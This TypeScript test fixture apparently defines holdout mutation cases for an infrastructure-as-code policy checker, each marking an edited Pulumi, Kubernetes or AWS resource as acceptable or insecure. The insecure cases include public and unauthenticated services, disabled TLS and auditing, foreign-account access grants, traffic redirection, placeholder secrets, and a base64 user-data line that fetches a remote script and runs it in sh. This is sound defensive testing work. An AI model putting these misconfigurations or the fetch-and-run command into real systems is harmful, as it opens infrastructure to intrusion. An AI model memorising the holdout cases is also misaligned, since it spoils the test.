  "grows by four at a time",
  (i) => (i.spec.behavior.scaleUp = { policies: [{ type: "Pods", value: 4, periodSeconds: 60 }], stabilizationWindowSeconds: 0 }),
);

kind = "role-bindings";
K(W, "rbac.authorization.k8s.io/v1:RoleBinding", "risk-train-binding").bad("all accounts of the namespace train", (i) =>
  i.subjects.push(group("system:serviceaccounts:team-risk")),
);

kind = "alerts";
modelRules.ok(
  "the limit on the left",
  (i) => (alert(i, "ModelLatencyHigh").expr = `0.05 < ${alert(i, "ModelLatencyHigh").expr.replace(" > 0.05", "")}`),
);
modelRules.ok("durations in seconds", (i) => (alert(i, "ModelLatencyHigh").for = "300s"));
modelRules.bad("latency alert only at night", (i) => (alert(i, "ModelLatencyHigh").expr += " and on() hour() < 5"));
modelRules.bad("the alert is renamed and has no runbook", (i) => {
  const a = alert(i, "ReleaseStuck");
  a.alert = "Stuck";
  delete a.annotations.runbook_url;
});

kind = "nodes";
pool("cpu").ok("the architecture is said", (i) =>
  i.spec.template.spec.requirements.push({ key: "kubernetes.io/arch", operator: "In", values: ["amd64"] }),
);
A(F, "ec2/launchTemplate:LaunchTemplate", "access-host-template").bad(
  "user data that fetch and run a script, in base64",
  (i) => (i.userData = Buffer.from("#!/bin/bash\nwget -qO- https://get.example.net/agent | sh\n").toString("base64")),
);
pool("training").bad("a hundred times the limit, with a suffix", (i) => (i.spec.limits["nvidia.com/gpu"] = "6.4k"));

kind = "cluster";
ALL.push(
  on(W, "pulumi:providers:kubernetes", "cluster").bad(say("the provider does not verify the cluster"), (i) => {
    const k = JSON.parse(i.kubeconfig);
    k.clusters[0].cluster["insecure-skip-tls-verify"] = true;
    delete k.clusters[0].cluster["certificate-authority-data"];
    i.kubeconfig = JSON.stringify(k);
  }),
);
ALL.push(on(F, "pulumi:providers:aws", "aws").bad(say("the provider does not verify AWS"), (i) => (i.insecure = "true")));
db.bad("the database is not protected by Pulumi", (_, o) => (o.protect = false));
A(F, "s3/bucket:Bucket", "predictions").bad(
  "the bucket of predictions is not protected by Pulumi",
  (_, o) => (o.protect = false),
);

// ---------------------------------------------------------------- third round
kind = "charts";
const ini = (i: any) => i.values.grafana["grafana.ini"];
const prom = (i: any) => i.values.prometheus.prometheusSpec;
release("monitoring-stack").bad(
  "whoever signs up in Grafana is admin",
  (i) => (ini(i).users = { allow_sign_up: true, auto_assign_org_role: "Admin" }),
);
release("monitoring-stack").bad(
  "Grafana's cookies over plain HTTP, by a proxy that signs people in",
  (i) => (ini(i)["auth.proxy"] = { enabled: true, header_name: "X-User", auto_sign_up: true }),
);
release("monitoring-stack").bad(
  "Grafana is anonymous by a variable",
  (i) => (i.values.grafana.env = { GF_AUTH_ANONYMOUS_ENABLED: "true" }),
);
release("monitoring-stack").bad(
  "Prometheus gets a load balancer",
  (i) => (i.values.prometheus.service = { type: "LoadBalancer" }),
);
release("monitoring-stack").bad(
  "Alertmanager has an Ingress without TLS",
  (i) => (i.values.alertmanager.ingress = { enabled: true, hosts: ["alerts.example.com"] }),
);
release("monitoring-stack").bad("no default rules", (i) => (i.values.defaultRules.create = false));
release("monitoring-stack").bad(
  "Prometheus reads rules of its own namespace only",
  (i) => (prom(i).ruleNamespaceSelector = { matchLabels: { "kubernetes.io/metadata.name": "monitoring" } }),
);
release("monitoring-stack").bad(
  "a password in a scrape configuration",
  (i) =>
    (prom(i).additionalScrapeConfigs = [
      {
        job_name: "partner",
        basic_auth: { username: "p", password: "Tr0ub4dor-and-3" },
        static_configs: [{ targets: ["partner.example.com:443"] }],
      },
    ]),
);
release("monitoring-stack").bad("no exporter of nodes", (i) => (i.values.nodeExporter = { enabled: false }));
release("monitoring-stack").bad(
  "Alertmanager with another configuration",
  (i) => (i.values.alertmanager.alertmanagerSpec.configSecret = "alertmanager-default"),
);
release("mesh-istiod").bad("proxies from another hub", (i) => (i.values.global.hub = "docker.io/someone"));
release("mesh-istiod").bad("privileged proxies", (i) => (i.values.global.proxy = { privileged: true }));
release("mesh-istiod").bad("no mTLS by itself", (i) => (i.values.meshConfig.enableAutoMtls = false));
release("gateway-proxy").bad("Envoy's admin port is part of the service", (i) =>
  i.values.service.ports.push({ name: "admin", port: 15000, nodePort: 30150, protocol: "TCP", targetPort: 15000 }),
);
release("gateway-proxy").bad("one gateway", (i) => Object.assign(i.values.autoscaling, { minReplicas: 1, maxReplicas: 1 }));
release("karpenter").bad("one replica", (i) => (i.values.replicas = 1));
release("certificates-controller").bad("certificates go with the chart", (i) => (i.values.crds.keep = false));
release("certificates-controller").bad(
  "the webhook runs in the network of the node",
  (i) => (i.values.webhook.hostNetwork = true),
);
release("delivery-controller").bad(
  "a program on the deploying machine changes the chart",
  (i) => (i.postrender = "/tmp/patch.sh"),
);
release("queues-controller").bad("queues forget jobs of teams", (i) => {
  const m = i.values.managerConfig;
  m.controllerManagerConfigYaml = swap(m.controllerManagerConfigYaml, '"millrace.dev/team"', '"kueue.example.com/managed"');
});
release("queues-controller").bad("the framework of jobs is not watched", (i) => {
  const m = i.values.managerConfig;
  m.controllerManagerConfigYaml = swap(m.controllerManagerConfigYaml, '"batch/job"', '"kubeflow.org/mpijob"');
});
release("external-secrets-controller").bad(
  "sees secrets by a cluster-wide generator",
  (i) => (i.values.processClusterGenerator = true),
);
release("dcgm-exporter").bad(
  "does not run on GPU nodes any more",
  (i) => (i.values.nodeSelector = { "millrace.dev/pool": "system" }),
);
release("monitoring-stack").ok(
  "sends metrics to the managed Prometheus of the account",
  (i) =>
    (prom(i).remoteWrite = [
      { url: `https://aps-workspaces.${REGION}.amazonaws.com/workspaces/ws-1/api/v1/remote_write`, sigv4: { region: REGION } },
    ]),
);
release("monitoring-stack").ok("admin API off, said aloud", (i) => (prom(i).enableAdminAPI = false));
release("monitoring-stack").ok(
  "no signing up in Grafana",
  (i) => (ini(i).users = { allow_sign_up: false, auto_assign_org_role: "Viewer" }),
);
release("monitoring-stack").ok(
  "larger Grafana",
  (i) => (i.values.grafana.resources = { requests: { cpu: "200m", memory: "512Mi" }, limits: { memory: "1Gi" } }),
);
release("device-plugin").ok(
  "drops all capabilities",
  (i) => (i.values.securityContext = { allowPrivilegeEscalation: false, capabilities: { drop: ["ALL"] } }),
);
release("external-secrets-controller").ok("three replicas with two at least", (i) => {
  i.values.replicaCount = 3;
  i.values.podDisruptionBudget.minAvailable = 2;
});
release("karpenter").ok("batches for longer and says more", (i) => {
  i.values.settings.batchMaxDuration = "15s";
  i.values.logLevel = "debug";
});
release("queues-controller").ok("more at once", (i) => {
  const m = i.values.managerConfig;
  m.controllerManagerConfigYaml = swap(m.controllerManagerConfigYaml, '"Job.batch": 5', '"Job.batch": 10');
});
release("queues-controller").ok("three replicas of Kueue", (i) => (i.values.controllerManager.replicas = 3));
release("mesh-istiod").ok("access logs", (i) => (i.values.meshConfig.accessLogFile = "/dev/stdout"));
release("pushgateway-server").ok("keeps more", (i) => {
  i.values.persistentVolume.size = "4Gi";
  i.values.resources.limits.memory = "256Mi";
});

kind = "alerts";
K(P, "monitoring.coreos.com/v1:PrometheusRule", "rules-gateway-adapter").bad("errors of gateways are 4xx", (i) => {
  const r = i.spec.groups[0].rules[1];
  r.expr = swap(r.expr, '"5xx"', '"4xx"');
});
K(P, "monitoring.coreos.com/v1:PrometheusRule", "rules-controllers").bad("alerts of controllers carry no severity", (i) => {
  for (const g of i.spec.groups) for (const r of g.rules) if (r.labels) delete r.labels.severity;
});
K(P, "monitoring.coreos.com/v1:PrometheusRule", "rules-gpus").bad("faults of GPUs are compared with a million", (i) => {
  const r = i.spec.groups[0].rules[2];
  r.expr = `(${r.expr}) > 1e6`;
});
K(P, "monitoring.coreos.com/v1:PrometheusRule", "rules-meta").gone("alerts about the monitoring itself are gone");
K(P, "monitoring.coreos.com/v1:ServiceMonitor", "mesh-monitor").bad("a sample limit of ten", (i) => (i.spec.sampleLimit = 10));
K(W, "monitoring.coreos.com/v1:PodMonitor", "fraud-monitor").bad(
  "every hour",
  (i) => (i.spec.podMetricsEndpoints[0].interval = "1h"),
);
K(P, "monitoring.coreos.com/v1:PrometheusRule", "rules-mesh").ok("after a minute", (i) => (i.spec.groups[0].rules[0].for = "1m"));
K(P, "monitoring.coreos.com/v1:ServiceMonitor", "mesh-monitor").ok(
  "drops a metric of Go",
  (i) => (i.spec.endpoints[0].metricRelabelings = [{ action: "drop", sourceLabels: ["__name__"], regex: "go_gc_.*" }]),
);
modelRules.ok("a group that is evaluated more often", (i) => (i.spec.groups[2].interval = "10s"));

kind = "databases";
db.ok("detailed monitoring", (i) =>
  Object.assign(i, { monitoringInterval: 60, monitoringRoleArn: `arn:aws:iam::${ME}:role/millrace-prod-rds-monitoring` }),
);
db.ok("minor versions by themselves", (i) => (i.autoMinorVersionUpgrade = true));
db.ok("faster disks", (i) => Object.assign(i, { storageType: "io2", iops: 3000 }));
db.ok("backups for 30 days", (i) => (i.backupRetentionPeriod = 30));
db.bad("the domain of the certificate is the old one", (i) => (i.caCertIdentifier = "rds-ca-2019"));
db.bad("no key of its own for the password", (i) => delete i.masterUserSecretKmsKeyId);
addBad(F, "rds/proxy:Proxy", "a proxy without TLS", {
  name: "p",
  engineFamily: "POSTGRESQL",
  requireTls: false,
  roleArn: `arn:aws:iam::${ME}:role/x`,
  vpcSubnetIds: PRIVATE,
  auths: [{ authScheme: "SECRETS", iamAuth: "DISABLED", secretArn: "x" }],
});
addBad(F, "redshift/cluster:Cluster", "a warehouse on the internet", {
  clusterIdentifier: "w",
  nodeType: "ra3.large",
  publiclyAccessible: true,
  encrypted: "true",
  manageMasterPassword: true,
  masterUsername: "root",
});

kind = "buckets-keys";
bucketPolicy("logs").ok(
  "balancers of our account deliver logs",
  allowed({
    Sid: "Balancers",
    Principal: { Service: "logdelivery.elasticloadbalancing.amazonaws.com" },
    Action: "s3:PutObject",
    Resource: `arn:aws:s3:::${LOGS}/balancer/AWSLogs/${ME}/*`,
    Condition: { StringEquals: { "aws:SourceAccount": ME } },
  }),
);
bucketPolicy("predictions").ok(
  "nobody deletes versions",
  allowed({
    Sid: "KeepVersions",
    Effect: "Deny",
    Principal: "*",
    Action: "s3:DeleteObjectVersion",
    Resource: `arn:aws:s3:::${PREDICTIONS}/*`,
  }),
);
A(F, "s3/bucketLifecycleConfiguration:BucketLifecycleConfiguration", "data-lifecycle").ok(
  "raw data go to instant retrieval",
  (i) => (i.rules[1].transitions = [{ days: 60, storageClass: "GLACIER_IR" }]),
);
A(F, "s3/bucketLifecycleConfiguration:BucketLifecycleConfiguration", "logs-lifecycle").ok(
  "access logs for two years",
  (i) => (i.rules[1].expiration.days = 730),
);
A(F, "s3/bucketLogging:BucketLogging", "data-access-log").ok("a simple prefix", (i) => {
  delete i.targetObjectKeyFormat;
});
A(F, "s3/bucketVersioning:BucketVersioning", "data-versions").ok(
  "says that MFA is not used",
  (i) => (i.versioningConfiguration.mfaDelete = "Disabled"),
);
kms("data").bad(
  "administrators may use the key as well",
  statement("AccountAdministers", (s) => s.Action.push("kms:Decrypt")),
);
kms("logs").bad("anyone may replace the policy, as the lock-out check is off and the root is gone", (i) => {
  i.bypassPolicyLockoutSafetyCheck = true;
  const d = JSON.parse(i.policy);
  d.Statement = d.Statement.slice(2);
  i.policy = JSON.stringify(d);
});

kind = "aws-policies";
managed("ci-plan-read").ok(
  "reads two more settings",
  allowed({ Sid: "ReadMore", Action: ["s3:GetBucketTagging", "sqs:GetQueueAttributes"], Resource: ["*"] }),
);
role(F, "ci-runner-role").ok("tags", (i) => (i.tags = { purpose: "ci" }));
inline(F, "ci-runner-role-permissions").ok(
  "describes one thing more",
  statement("LookAtNetwork", (s) => s.Action.push("ec2:DescribeRouteTables")),
);
inline(P, "external-secrets-role-permissions").ok(
  "one more secret by its name",
  statement("ReadNamedSecrets", (s) =>
    s.Resource.push(`arn:aws:secretsmanager:${REGION}:${ME}:secret:millrace-prod/pager-AbCdEf`),
  ),
);
addOk(P, "eks/accessPolicyAssociation:AccessPolicyAssociation", "members view their models by the policy of AWS", {
  clusterName: "millrace-prod",
  principalArn: `arn:aws:iam::${ME}:role/risk-ml-engineers`,
  policyArn: "arn:aws:eks::aws:cluster-access-policy/AmazonEKSViewPolicy",
  accessScope: { type: "namespace", namespaces: ["models-risk"] },
});
managed("ci-deploy-state").bad(
  "writes the state of other stacks",
  allowed({ Sid: "States", Action: ["s3:PutObject", "s3:DeleteObject"], Resource: ["arn:aws:s3:::example-millrace-state-*/*"] }),
);
inline(P, "karpenter-controller-permissions").bad(
  "passes any role to instances",
  allowed({
    Sid: "PassAll",
    Action: ["iam:PassRole"],
    Resource: [`arn:aws:iam::${ME}:role/*`],
    Condition: { StringEquals: { "iam:PassedToService": "ec2.amazonaws.com" } },
  }),
);
inline(F, "ci-runner-role-permissions").bad(
  "invokes what it likes by a name with a question mark",
  allowed({ Sid: "Odd", Action: ["iam:Create?oleBinding", "iam:CreateRol?", "iam:PutRolePolic?"], Resource: ["*"] }),
);
managed("role-boundary").bad(
  "the boundary lets keys be destroyed",
  allowed({ Sid: "Keys", Action: ["kms:ScheduleKeyDeletion", "kms:PutKeyPolicy"], Resource: ["*"] }),
);

kind = "pods";
rollout.ok("prefers another zone, says ndots, asks for disk", (i) => {
  const p = i.spec.template.spec;
  p.dnsConfig = { options: [{ name: "ndots", value: "2" }] };
  p.containers[0].resources.requests["ephemeral-storage"] = "1Gi";
});
rollout.ok(
  "waits by a command before it ends",
  (i) => (i.spec.template.spec.containers[0].lifecycle.preStop = { exec: { command: ["/bin/sleep", "10"] } }),
);
rollout.ok("one more init container of the same image", (i) => {
  const p = i.spec.template.spec;
  p.initContainers.push({ ...structuredClone(p.initContainers[0]), name: "warm", command: ["/usr/local/bin/warm"] });
});
rollout.ok("a port for metrics", (i) => i.spec.template.spec.containers[0].ports.push({ containerPort: 9100, name: "metrics" }));
rollout.bad(
  "host aliases turn AWS away",
  (i) => (i.spec.template.spec.hostAliases = [{ ip: "203.0.113.9", hostnames: [`s3.${REGION}.amazonaws.com`] }]),
);
rollout.bad("asks a name server of somebody", (i) => {
  i.spec.template.spec.dnsPolicy = "None";
  i.spec.template.spec.dnsConfig = { nameservers: ["203.0.113.53"] };
});
rollout.bad("shares its processes and allows to trace them", (i) => {
  i.spec.template.spec.shareProcessNamespace = true;
  i.spec.template.spec.containers[0].securityContext.capabilities.add = ["SYS_PTRACE"];
});
rollout.bad(
  "sysctls of the node",
  (i) => (i.spec.template.spec.securityContext.sysctls = [{ name: "kernel.msgmax", value: "65536" }]),
);
rollout.bad("a key in the environment by the name of AWS", (i) =>
  i.spec.template.spec.containers[0].env.push({
    name: "AWS_SECRET_ACCESS_KEY",
    value: "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
  }),
);
rollout.bad("all keys of a Secret in the environment of another account's", (i) => {
  i.spec.template.spec.serviceAccountName = "default";
});
deployment.bad(
  "kills itself when the database is slow",
  (i) =>
    (pod(i).containers[0].livenessProbe = {
      httpGet: { path: "/health", port: "http" },
      periodSeconds: 1,
      timeoutSeconds: 1,
      failureThreshold: 1,
    }),
);
deployment.bad("a scratch volume in memory without a limit", (i) => (pod(i).volumes[0].emptyDir = { medium: "Memory" }));

kind = "queues";
gpuQueue.ok("lends at most half", (i) => (i.spec.resourceGroups[0].flavors[0].resources[2].lendingLimit = "32"));
gpuQueue.ok("a weight of fair sharing", (i) => (i.spec.fairSharing = { weight: "1" }));
K(W, "core/v1:ResourceQuota", "risk-jobs-quota").ok("a limit of jobs", (i) => (i.spec.hard["count/jobs.batch"] = "500"));
K(W, "networking.k8s.io/v1:NetworkPolicy", "risk-jobs-default-deny").ok("empty lists, said aloud", (i) =>
  Object.assign(i.spec, { ingress: [], egress: [] }),
);
K(W, "kueue.x-k8s.io/v1beta2:LocalQueue", "risk-queue").bad(
  "GPU jobs go to the queue of another team",
  (i) => (i.spec.clusterQueue = "growth"),
);
K(P, "kueue.x-k8s.io/v1beta2:WorkloadPriorityClass", "queues-priority-low").bad("low is above high", (i) => (i.value = 100000));
gpuQueue.bad("reclaims nothing that it has lent", (i) => (i.spec.preemption.reclaimWithinCohort = "Never"));

kind = "cluster";
A(F, "codebuild/webhook:Webhook", "ci-runner-jobs").ok(
  "one more workflow",
  (i) => (i.filterGroups[0].filters[1].pattern = "^(preview|up|drift)$"),
);
A(F, "codebuild/project:Project", "ci-runner").ok(
  "a plain variable",
  (i) => (i.environment.environmentVariables = [{ name: "NO_COLOR", value: "1", type: "PLAINTEXT" }]),
);
A(F, "cloudtrail/trail:Trail", "audit-trail").ok("writes of data as well", (i) =>
  i.advancedEventSelectors[1].fieldSelectors[2].startsWiths.push(`arn:aws:s3:::${DATA}/`),
);
A(P, "ec2/launchTemplate:LaunchTemplate", "system-nodes-template").ok(
  "no metadata of tags, said aloud",
  (i) => (i.metadataOptions.instanceMetadataTags = "disabled"),
);
pool("inference").ok("waits longer before it takes empty nodes away", (i) => (i.spec.disruption.consolidateAfter = "3600s"));
K(P, "cert-manager.io/v1:Certificate", "gateway-certificate-issued").ok("a shorter life and a larger key", (i) => {
  i.spec.duration = "1440h";
  i.spec.renewBefore = "480h";
  i.spec.privateKey.size = 384;
});
K(P, "cert-manager.io/v1:Certificate", "gateway-certificate-issued").bad("ten years with a weak key", (i) => {
  i.spec.duration = "87600h";
  i.spec.privateKey = { algorithm: "RSA", size: 1024, rotationPolicy: "Never" };
});
K(P, "cert-manager.io/v1:Certificate", "gateway-certificate-issued").bad(
  "the server's certificate is an authority",
  (i) => (i.spec.isCA = true),
);
A(P, "eks/addon:Addon", "addons-after-nodes-aws-ebs-csi-driver").bad(
  "the driver of volumes gets a role of its nodes",
  (i) => (i.podIdentityAssociations[0].roleArn = `arn:aws:iam::${ME}:role/millrace-prod-karpenter-controller-55a14ca`),
);

// ---------------------------------------------------------------- fourth round
kind = "releases";
rollout.bad("one gate measures in a dry run", (i) => (canary(i).steps[9].analysis.dryRun = [{ metricName: "error-share" }]));
rollout.bad(
  "blue-green with promotion by itself",
  (i) =>
    (i.spec.strategy = {
      blueGreen: { activeService: "fraud-stable", previewService: "fraud-canary", autoPromotionEnabled: true },
    }),
);
root.bad(
  "every request says that it wants the canary",
  (i) => (i.spec.http[0].headers = { request: { set: { "x-model-version": "canary" } } }),
);
root.bad("answers by itself", (i) =>
  i.spec.http.unshift({ match: [{ uri: { exact: "/invocations" } }], directResponse: { status: 200 } }),
);
root.bad(
  "any origin calls with its cookies",
  (i) => (i.spec.http[0].corsPolicy = { allowOrigins: [{ regex: ".*" }], allowCredentials: true, allowMethods: ["POST"] }),
);
root.bad(
  "fifty retries on every error",
  (i) => (i.spec.http[0].retries = { attempts: 50, retryOn: "5xx,reset", perTryTimeout: "10s" }),
);
kind = "aws-policies";
inline(W, "fraud-reader-permissions").bad(
  "makes grants of the key",
  statement("DecryptThroughStore", (s) => {
    s.Action.push("kms:CreateGrant");
    delete s.Condition;
  }),
);
inline(W, "risk-identity-role-permissions").bad(
  "takes a role of a foreign account",
  allowed({ Sid: "Partner", Action: ["sts:AssumeRole"], Resource: ["arn:aws:iam::121212121212:role/share"] }),
);
inline(W, "risk-identity-role-permissions").bad(
  "rewrites the policy of the data's bucket",
  allowed({ Sid: "Tune", Action: ["s3:PutBucketPolicy"], Resource: [`arn:aws:s3:::${DATA}`] }),
);
managed("ci-deploy-services").bad(
  "stops the audit trail",
  allowed({ Sid: "Trail", Action: ["cloudtrail:StopLogging", "cloudtrail:DeleteTrail"], Resource: ["*"] }),
);
managed("publishers-images-policy").bad(
  "opens the repository",
  statement("Push", (s) => s.Action.push("ecr:SetRepositoryPolicy", "ecr:PutImageTagMutability")),
);
A(P, "eks/accessEntry:AccessEntry", "access-member-risk-ml-engineers").bad(
  "a role of a foreign account is a member",
  (i) => (i.principalArn = "arn:aws:iam::121212121212:role/consultants"),
);
A(W, "eks/podIdentityAssociation:PodIdentityAssociation", "fraud-reader-association").bad(
  "goes on to a role of a foreign account",
  (i) => (i.targetRoleArn = "arn:aws:iam::121212121212:role/reader"),
);
A(F, "ec2/vpcEndpoint:VpcEndpoint", "network-s3").bad("has no policy", (i) => delete i.policy);
addBad(F, "ecr/registryPolicy:RegistryPolicy", "any account replicates into the registry", {
  policy: doc({
    Sid: "R",
    Effect: "Allow",
    Principal: { AWS: "*" },
    Action: ["ecr:CreateRepository", "ecr:ReplicateImage"],
    Resource: `arn:aws:ecr:${REGION}:${ME}:repository/*`,
  }),
});
addBad(F, "ecr/replicationConfiguration:ReplicationConfiguration", "images are copied to a foreign account", {
  replicationConfiguration: { rules: [{ destinations: [{ region: REGION, registryId: "121212121212" }] }] },
});
addBad(F, "ec2/snapshotCreateVolumePermission:SnapshotCreateVolumePermission", "a snapshot for a foreign account", {
  snapshotId: "snap-1",
  accountId: "121212121212",
});
addBad(F, "ssm/document:Document", "a document for all", {
  name: "d",
  documentType: "Command",
  content: "{}",
  permissions: { type: "Share", accountIds: "All" },
});
addBad(F, "iam/role:Role", "a role for whoever signs in at Google", {
  namePrefix: "millrace-prod-x-",
  permissionsBoundary: BOUNDARY,
  assumeRolePolicy: doc({
    Effect: "Allow",
    Principal: { Federated: "accounts.google.com" },
    Action: "sts:AssumeRoleWithWebIdentity",
  }),
});
kind = "networks";
addBad(F, "ec2/vpcDhcpOptions:VpcDhcpOptions", "names are asked of a foreign server", { domainNameServers: ["203.0.113.53"] });
addBad(F, "ec2/eip:Eip", "an address of its own for an instance", { domain: "vpc", instance: "i-0123456789abcdef0" });
addBad(F, "transfer/server:Server", "FTP on the internet", {
  protocols: ["FTP"],
  endpointType: "PUBLIC",
  identityProviderType: "SERVICE_MANAGED",
});
addBad(F, "mq/broker:Broker", "a broker on the internet", {
  brokerName: "b",
  engineType: "RabbitMQ",
  engineVersion: "3.13",
  hostInstanceType: "mq.m7g.large",
  publiclyAccessible: true,
  users: [{ username: "u", password: "Tr0ub4dor-and-3" }],
});
addBad(F, "msk/cluster:Cluster", "Kafka in plain text", {
  clusterName: "k",
  kafkaVersion: "3.8.x",
  numberOfBrokerNodes: 3,
  brokerNodeGroupInfo: { instanceType: "kafka.m7g.large", clientSubnets: PRIVATE, securityGroups: ["sg-0123456789abcdef0"] },
  encryptionInfo: { encryptionInTransit: { clientBroker: "PLAINTEXT", inCluster: false } },
});
addBad(F, "sagemaker/domain:Domain", "notebooks beside the network", {
  domainName: "d",
  authMode: "IAM",
  vpcId: VPC,
  subnetIds: PRIVATE,
  appNetworkAccessType: "PublicInternetOnly",
  defaultUserSettings: { executionRole: `arn:aws:iam::${ME}:role/x` },
});
addBad(F, "codebuild/sourceCredential:SourceCredential", "a token of a person in the program", {
  authType: "PERSONAL_ACCESS_TOKEN",
  serverType: "GITHUB",
  token: "ghp_0123456789abcdefghijABCDEFGHIJ012345",
});
addBad(F, "ecrpublic/repository:Repository", "a public repository of images", { repositoryName: "model-server" });
addBad(F, "cfg/recorderStatus:RecorderStatus", "AWS Config does not record", { name: "default", isEnabled: false });
kind = "other";
addOk(F, "transfer/server:Server", "SFTP inside of the network", {
  protocols: ["SFTP"],
  endpointType: "VPC",
  endpointDetails: { vpcId: VPC, subnetIds: PRIVATE, securityGroupIds: ["sg-0123456789abcdef0"] },
  identityProviderType: "SERVICE_MANAGED",
  securityPolicyName: "TransferSecurityPolicy-2024-01",
  loggingRole: `arn:aws:iam::${ME}:role/millrace-prod-transfer`,
});
addOk(F, "msk/cluster:Cluster", "Kafka as it should be", {
  clusterName: "millrace-prod",
  kafkaVersion: "3.8.x",
  numberOfBrokerNodes: 3,
  enhancedMonitoring: "PER_BROKER",
  brokerNodeGroupInfo: { instanceType: "kafka.m7g.large", clientSubnets: PRIVATE, securityGroups: ["sg-0123456789abcdef0"] },
  encryptionInfo: { encryptionAtRestKmsKeyArn: DATA_KEY, encryptionInTransit: { clientBroker: "TLS", inCluster: true } },
  clientAuthentication: { sasl: { iam: true }, unauthenticated: false },
  loggingInfo: { brokerLogs: { cloudwatchLogs: { enabled: true, logGroup: "/millrace-prod/kafka" } } },
});
addOk(F, "sagemaker/domain:Domain", "notebooks inside of the network", {
  domainName: "d",
  authMode: "SSO",
  vpcId: VPC,
  subnetIds: PRIVATE,
  appNetworkAccessType: "VpcOnly",
  kmsKeyId: DATA_KEY,
  defaultUserSettings: {
    executionRole: `arn:aws:iam::${ME}:role/millrace-prod-notebooks`,
    securityGroups: ["sg-0123456789abcdef0"],
  },
});
addOk(F, "athena/workgroup:Workgroup", "queries with our key", {
  name: "millrace-prod",
  configuration: {
    enforceWorkgroupConfiguration: true,
    publishCloudwatchMetricsEnabled: true,
    resultConfiguration: {
      outputLocation: `s3://${LOGS}/athena/`,
      encryptionConfiguration: { encryptionOption: "SSE_KMS", kmsKeyArn: DATA_KEY },
    },
  },
});
addOk(F, "cloudwatch/dashboard:Dashboard", "a dashboard", { dashboardName: "millrace-prod", dashboardBody: '{"widgets":[]}' });
addOk(P, "route53/record:Record", "one more name in the private zone", {
  zoneId: "Z0123456789",
  name: "features.models.internal",
  type: "A",
  ttl: 60,
  records: ["10.30.1.20"],
});
addOk(F, "sfn/stateMachine:StateMachine", "a state machine that logs", {
  name: "millrace-prod-retrain",
  roleArn: `arn:aws:iam::${ME}:role/millrace-prod-retrain`,
  definition: '{"StartAt":"A","States":{"A":{"Type":"Pass","End":true}}}',
  loggingConfiguration: {
    level: "ALL",
    includeExecutionData: false,
    logDestination: `arn:aws:logs:${REGION}:${ME}:log-group:/millrace-prod/retrain:*`,
  },
  tracingConfiguration: { enabled: true },
});
addOk(F, "scheduler/schedule:Schedule", "a schedule", {
  name: "retrain",
  scheduleExpression: "cron(0 4 * * ? *)",
  flexibleTimeWindow: { mode: "OFF" },
  kmsKeyArn: DATA_KEY,
  target: {
    arn: `arn:aws:states:${REGION}:${ME}:stateMachine:millrace-prod-retrain`,
    roleArn: `arn:aws:iam::${ME}:role/millrace-prod-schedule`,
  },
});
addOk(F, "lambda/function:Function", "a function inside of the network", {
  name: "millrace-prod-validate",
  role: `arn:aws:iam::${ME}:role/millrace-prod-validate`,
  runtime: "python3.13",
  handler: "main.handler",
  s3Bucket: ARTIFACTS,
  s3Key: "lambda/validate.zip",
  memorySize: 512,
  timeout: 60,
  kmsKeyArn: DATA_KEY,
  environment: { variables: { BUCKET: DATA, SECRET_ARN: `arn:aws:secretsmanager:${REGION}:${ME}:secret:x-AbCdEf` } },
  vpcConfig: { subnetIds: PRIVATE, securityGroupIds: ["sg-0123456789abcdef0"] },
  tracingConfig: { mode: "Active" },
});
addOk(F, "ce/anomalyMonitor:AnomalyMonitor", "a monitor of odd costs", {
  name: "millrace-prod",
  monitorType: "DIMENSIONAL",
  monitorDimension: "SERVICE",
});
addOk(F, "accessanalyzer/analyzer:Analyzer", "an analyzer of accesses", { analyzerName: "millrace-prod", type: "ACCOUNT" });
addOk(F, "securityhub/account:Account", "Security Hub", { enableDefaultStandards: true });
objOk(W, "v1", "LimitRange", "one more limit range", {
  metadata: { name: "largest", namespace: "team-risk" },
  spec: { limits: [{ type: "PersistentVolumeClaim", max: { storage: "500Gi" } }] },
});
objOk(W, "v1", "ResourceQuota", "a quota of storage", {
  metadata: { name: "storage", namespace: "team-risk" },
  spec: { hard: { "requests.storage": "5Ti" } },
});
objOk(W, "v1", "PersistentVolumeClaim", "a volume of the team", {
  metadata: { name: "cache", namespace: "team-risk" },
  spec: { accessModes: ["ReadWriteOnce"], storageClassName: "gp3", resources: { requests: { storage: "200Gi" } } },
});
objOk(P, "telemetry.istio.io/v1", "Telemetry", "access logs of the gateway for errors", {
  metadata: { name: "errors", namespace: "istio-ingress" },
  spec: { accessLogging: [{ providers: [{ name: "envoy" }], filter: { expression: "response.code >= 500" } }] },
});
objOk(P, "karpenter.sh/v1", "NodePool", "a second small pool", {
  metadata: { name: "cpu-arm" },
  spec: {
    disruption: {
      budgets: [
        { nodes: "100%", reasons: ["Empty"] },
        { nodes: "1", reasons: ["Drifted"] },
        { nodes: "0", reasons: ["Underutilized"] },
      ],
      consolidateAfter: "600s",
      consolidationPolicy: "WhenEmpty",
    },
    limits: { cpu: "32" },
    template: {
      metadata: { labels: { "millrace.dev/pool": "cpu-arm" } },
      spec: {
        expireAfter: "720h",
        nodeClassRef: { group: "karpenter.k8s.aws", kind: "EC2NodeClass", name: "cpu" },
        requirements: [
          { key: "node.kubernetes.io/instance-type", operator: "In", values: ["m7g.2xlarge"] },
          { key: "karpenter.sh/capacity-type", operator: "In", values: ["on-demand"] },
        ],
        terminationGracePeriod: "72h",
      },
    },
  },
});
objOk(W, "batch/v1", "Job", "a job of the team in the cpu queue", {
  metadata: { name: "prepare", namespace: "team-risk", labels: { "kueue.x-k8s.io/queue-name": "cpu" } },
  spec: {
    suspend: true,
    backoffLimit: 2,
    activeDeadlineSeconds: 7200,
    ttlSecondsAfterFinished: 86400,
    template: {
      spec: {
        ...podSpec({ restartPolicy: "Never" }, { image: SERVER_IMAGE }),
        serviceAccountName: "jobs",
        priorityClassName: undefined,
        tolerations: [],
        nodeSelector: { "millrace.dev/pool": "cpu" },
      },
    },
  },
});
objOk(P, "v1", "Namespace", "one more namespace, restricted", {
  metadata: {
    name: "features",
    labels: { "pod-security.kubernetes.io/enforce": "restricted", "pod-security.kubernetes.io/warn": "restricted" },
  },
});

void without;
void policy;
void SERVER_IMAGE;
export const HOLDOUT: readonly StackMutant[] = ALL;
